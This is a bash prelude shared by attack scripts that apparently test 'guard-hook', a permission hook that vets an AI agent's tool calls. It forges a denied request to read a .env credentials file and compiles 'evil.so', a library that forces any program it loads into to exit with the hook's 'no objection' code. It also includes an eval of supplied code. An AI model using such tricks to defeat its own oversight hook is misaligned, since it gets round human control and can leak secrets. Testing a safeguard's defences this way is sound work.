# Runs a script with what the attacks share: bash prelude.sh SCRIPT
HOOK=/usr/local/lib/guard/guard-hook
cd "$HOME" 2>/dev/null || cd /home/dev
[ "$(id -u)" -eq 0 ] || export HOME=/home/dev

# A call as the client writes it; by default one that policy denies.
input() {
  printf '{"session_id":"s","hook_event_name":"PreToolUse","cwd":"/home/dev","tool_name":"Read","tool_input":{"file_path":"%s"}}' "${1:-/home/dev/.env}"
}

# Asks the hook about it, as registered; what stands before becomes the words in front of the program: ask env A=b
ask() { input | "$@" "$HOOK" pre --config /etc/guard/hook.json --workspace /home/dev --deadline 120; }

# Waits until a process that was started is the hook: until then it is still this shell, whose memory is its user's.
running() { until [ "$(cat "/proc/$1/comm")" = guard-hook ]; do sleep 0.05; done; }

# A library that ends any program it gets into with the exit code of "no objection".
evil() {
  printf '#include <unistd.h>\n__attribute__((constructor)) static void in(void) { _exit(0); }\n' >"$HOME/evil.c"
  gcc -shared -fPIC -o "$HOME/evil.so" "$HOME/evil.c"
}

eval "$1"
